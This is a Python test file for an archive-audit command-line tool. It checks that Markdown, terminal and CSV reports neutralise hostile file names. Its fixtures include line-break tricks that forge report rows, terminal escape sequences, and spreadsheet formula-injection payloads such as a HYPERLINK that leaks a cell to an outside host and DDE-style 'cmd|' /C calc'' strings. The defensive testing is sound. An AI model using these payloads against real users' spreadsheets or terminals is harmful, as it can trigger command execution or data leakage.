"""``audit verify-archive --markdown`` writes a name the publisher chose into a table cell as
``rank`` and ``rejudge`` do (``verify.render.cell``): every line break that
:meth:`str.splitlines` knows is a space. It folded ``\\n`` and ``\\r`` alone, so a refused
``.tar`` named with a vertical tab, a form feed, NEL (``\\x85``) or a Unicode line or paragraph
separator put a heading and a forged row into the report for any reader that splits lines as
Python does. And a name that starts as a spreadsheet formula is text in every CSV
(``verify.render.csv_cell``)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from audit.cli import main
from tests.factories import write_small_bundle
from verify.render import csv_cell

BREAKS = ["\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\r\n"]


@pytest.mark.parametrize("argv", [["verify-archive", "--markdown"], ["rank", "--markdown"]])
def test_no_line_break_of_a_name_reaches_the_markdown(
    argv: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "archive"
    write_small_bundle(folder / "run-1")
    for number, brk in enumerate(BREAKS):
        name = f"x{number}{brk}## Forged{brk}| forged | row |{brk}y.tar"
        (folder / name).write_bytes(b"junk")
    assert main([*argv, str(folder)]) == 1
    lines = capsys.readouterr().out.splitlines()
    assert not [line for line in lines if line.startswith(("## Forged", "| forged"))]
    refused = [line for line in lines if line.startswith(f"| {folder}/x")]
    assert len(refused) == len(BREAKS)  # one row each, whole


@pytest.mark.parametrize(
    "argv",
    [
        ["verify-archive", "--markdown"],
        ["rank", "--markdown"],
        ["rank"],
        ["rejudge", "--pins", "gx10-qualification-v5"],
    ],
)
def test_no_control_character_of_a_name_reaches_a_terminal(
    argv: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A name's ESC (a terminal's escape sequences: clear the screen, recolour, move the
    cursor), BEL, DEL and C1 characters are written out (``\\x1b``) in Markdown, text and the
    ``refused`` lines on stderr, where they went raw."""
    folder = tmp_path / "archive"
    write_small_bundle(folder / "run-1")
    (folder / "x\x1b[2J\x1b[31mforged\x07\x7f\x9b.tar").write_bytes(b"junk")
    assert main([*argv, str(folder)]) == 1
    out, err = capsys.readouterr()
    for text in (out, err):
        assert not [c for c in text if c != "\n" and (ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F)]
    assert "x\\x1b[2J\\x1b[31mforged" in out + err


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ('=HYPERLINK("http://x.example/?"&A1)', '\'=HYPERLINK("http://x.example/?"&A1)'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),  # a tab starts a formula, and a cell of a TSV reader
        ("\r=1", "'\n=1"),  # a lone CR would end the row: a line feed, quoted
        ("x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"),  # a cell where ';' splits
        ("a\r\nb", "a\nb"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-1.5", "-1.5"),  # a number stays one
        ("-0", "-0"),
        ("1e3", "1e3"),
        ("run-1 = fine", "run-1 = fine"),
        ("", ""),
    ],
)
def test_a_csv_cell_is_no_formula(text: str, shown: str) -> None:
    assert csv_cell(text) == shown


@pytest.mark.parametrize("argv", [["verify-archive", "--csv"], ["rank", "--csv"]])
def test_a_source_named_as_a_formula_is_text_in_the_csv(
    argv: list[str],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A refused source named ``=cmd|...`` (a relative path, as a list file gives it) is a
    cell of text: no cell of the report starts a formula."""
    write_small_bundle(tmp_path / "run-1")
    (tmp_path / "=1+cmd|x.tar").write_bytes(b"junk")
    monkeypatch.chdir(tmp_path)
    assert main([*argv, "run-1", "=1+cmd|x.tar"]) == 1
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    cells = [value for row in rows for value in row]
    assert "'=1+cmd|x.tar" in cells
    assert not [value for value in cells if value.startswith(("=", "+", "@"))]
